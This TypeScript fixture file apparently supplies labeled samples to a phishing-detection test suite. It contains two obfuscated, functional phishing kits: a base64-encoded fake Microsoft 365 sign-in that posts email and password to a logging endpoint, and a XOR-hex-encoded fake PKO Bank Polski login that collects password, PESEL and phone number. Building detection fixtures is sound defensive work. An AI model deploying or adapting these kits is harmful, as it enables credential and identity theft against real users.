import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, b64, charCodes, xorHex, imgRoute } from '../parts/r-kit.js';
import { jsRoute } from '../parts/e-bin.js';

const m365Inner = `<style>body{margin:0;font-family:'Segoe UI',sans-serif;background:#e6e6e6}.bx{width:440px;margin:100px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;margin-top:24px}</style>
<div class="bx"><img src="/x/ms.png" width="108" height="24" alt="Microsoft"><h2 style="font-weight:600">Sign in</h2><p style="font-size:13px">Verify your account to view the secure message from your administrator.</p>
<form id="k"><input id="a" type="email" placeholder="someone@example.com"><br><br><input id="b" type="password" placeholder="Password"><button>Sign in</button></form><div style="clear:both"></div></div>`;

const pkoInner = `<div class="t">PKO Bank Polski</div><div class="b"><h2>Logowanie do serwisu iPKO</h2><p class="w">Wykryliśmy nieautoryzowane logowanie. Twoje konto zostało tymczasowo zablokowane. Zaloguj się, aby potwierdzić tożsamość.</p>
<form id="pf"><label>Numer klienta lub login</label><input name="login"><label>Hasło</label><input name="haslo" type="password"><label>PESEL</label><input name="pesel"><label>Numer telefonu</label><input name="tel"><button>Dalej</button></form></div>`;

export const entries: Entry[] = [
{
  id: 'r-obf-b64-docwrite-m365',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://securemsg-viewer.azurewebsites-cdn.net/x/msg.html',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#8203;</title></head><body>
<script>
/* v2.4.1 */ var _p='${b64(m365Inner)}';
document.write(decodeURIComponent(escape(window.atob(_p))));
document.title=String.fromCharCode(83,105,103,110,32,105,110);
setTimeout(function(){var f=document.getElementById('k');if(!f)return;f.onsubmit=function(e){e.preventDefault();
var x=new XMLHttpRequest();x.open('POST',atob('${b64('/x/api/v1/log.php')}'));x.send(JSON.stringify({a:document.getElementById('a').value,b:document.getElementById('b').value,ip:'',ua:navigator.userAgent}));
setTimeout(function(){location.href=atob('${b64('https://outlook.office.com/mail/')}')},800);};},50);
</script></body></html>`,
  routes: {
    'securemsg-viewer.azurewebsites-cdn.net/x/ms.png': imgRoute(115, 115, 115),
    'securemsg-viewer.azurewebsites-cdn.net/x/api/v1/log.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'OK' },
  },
},
{
  id: 'r-obf-xor-hex-pko-pl',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://ipko-weryfikacja-konta.pl/logowanie/',
  body: doc({ lang: 'pl', title: 'iPKO – Logowanie', css: `body{margin:0;font-family:"pko_bank_polski",Arial,sans-serif;background:#eef1f5}.t{background:#003574;color:#fff;padding:16px 10%;font-weight:700;font-size:20px}.b{max-width:440px;margin:30px auto;background:#fff;padding:26px}
input{width:100%;padding:10px;border:1px solid #b5b5b5;margin:4px 0 12px}button{background:#003574;color:#fff;border:0;padding:11px 30px}.w{color:#c00;font-size:14px}` },
`<div id="app"><noscript>Włącz obsługę JavaScript.</noscript></div>
<script>
(function(k,h){var o='';for(var i=0;i<h.length;i+=4){o+=String.fromCharCode(parseInt(h.substr(i,4),16)^k);}document.getElementById('app').innerHTML=o;
document.getElementById('pf').addEventListener('submit',function(e){e.preventDefault();var fd=new FormData(this),q={};fd.forEach(function(v,n){q[n]=v;});
fetch('/logowanie/api/'+btoa('s'+Date.now()).slice(0,8),{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(q)}).then(function(){location.href='/logowanie/sms.html';});});
})(${0x5a},'${xorHex(pkoInner, 0x5a)}');
</script>`),
},
];
